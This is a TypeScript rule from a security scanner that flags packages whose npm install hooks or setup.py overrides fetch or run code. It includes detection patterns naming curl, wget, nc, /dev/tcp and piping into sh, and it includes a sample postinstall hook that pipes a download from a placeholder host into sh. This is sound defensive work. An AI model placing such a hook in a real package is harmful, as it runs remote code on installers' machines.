import type { Finding, Rule } from './rule.js';

// `prepare` runs where the package is made and for whoever installs it from a repository, not from the registry.
const hooks = ['preinstall', 'install', 'postinstall'];
const loud =
  /\b(?:curl|wget|nc|bash -c|powershell|Invoke-WebRequest|base64|eval|xxd)\b|https?:\/\/|python\d?\s+-c|\/dev\/tcp|\$\(|\|\s*sh\b/i;
/** A line of script in the manifest is judged by what it says: one that sets a file mode is not one that fetches. */
const inline = /node\s+(?:-e|--eval)\s+("|')([\s\S]*)\1/;
const acts = /https?|fetch\(|child_process|exec|spawn|eval|Function|Buffer\.from|atob|net\b|process\.env|homedir/;
const isLoud = (command: string): boolean => loud.test(command) || acts.test(inline.exec(command)?.[2] ?? '');
const setupLoud = /cmdclass|class\s+\w+\((?:install|develop|egg_info|build_py)\)/;
const setupActs = /os\.system\(|subprocess\.|urlopen\(|requests\.|exec\(|eval\(|socket\./;

/** Code runs while a package is installed, before anybody has looked at it. */
export const installScripts: Rule = {
  id: 'TG-INSTALL-SCRIPT',
  title: 'A package runs commands while it is installed',
  severity: 'high',
  cwe: [506, 829],
  owasp: ['MCP04:2025 Software Supply Chain Attacks and Dependency Tampering'],
  safeMcp: ['SAFE-T1002'],
  why: 'An install script runs with the rights of whoever installs, before any check of the server itself.',
  mend: 'Do the work in the build, or at the first start where the user sees it.',
  cases: [
    {
      language: 'json',
      bad: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://get.example.com/x | sh" } }\n',
      good: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "build": "tsc" } }\n',
    },
  ],
  find: (scanned) =>
    [...scanned.texts].flatMap(([path, text]) =>
      path.endsWith('package.json') ? inManifest(path, text) : path.endsWith('setup.py') ? inSetup(path, text) : [],
    ),
};

const at = (file: string, text: string, offset: number) => {
  const line = text.slice(0, Math.max(0, offset)).split('\n').length;
  return { file, startLine: line, startColumn: 1, endLine: line, endColumn: 1 };
};

function inManifest(path: string, text: string): Finding[] {
  let scripts: unknown;
  try {
    const data: unknown = JSON.parse(text);
    scripts = typeof data === 'object' && data !== null && 'scripts' in data ? data.scripts : undefined;
  } catch {
    return [];
  }
  if (typeof scripts !== 'object' || scripts === null) return [];
  return Object.entries(scripts).flatMap(([name, command]): Finding[] => {
    if (!hooks.includes(name) || typeof command !== 'string') return [];
    if (isLoud(command))
      return [
        {
          rule: installScripts.id,
          kind: 'bug',
          severity: 'high',
          message: `The ${name} script fetches or evaluates code: ${command.slice(0, 160)}`,
          location: at(path, text, text.indexOf(`"${name}"`)),
        },
      ];
    if (
      /^(?:husky|patch-package|node-gyp|prebuild-install|is-ci|exit 0|echo\b|tsc|npm run build|opencollective)/.test(
        command.trim(),
      )
    )
      return [];
    return [
      {
        rule: installScripts.id,
        kind: 'bug',
        severity: 'low',
        message: `The package runs ${command.slice(0, 160)} while it is installed`,
        location: at(path, text, text.indexOf(`"${name}"`)),
      },
    ];
  });
}

function inSetup(path: string, text: string): Finding[] {
  const found = setupActs.exec(text);
  if (!found || !setupLoud.test(text)) return [];
  return [
    {
      rule: installScripts.id,
      kind: 'bug',
      severity: 'high',
      message: 'The set-up script runs programs or talks to the network while it installs',
      location: at(path, text, found.index),
    },
  ];
}
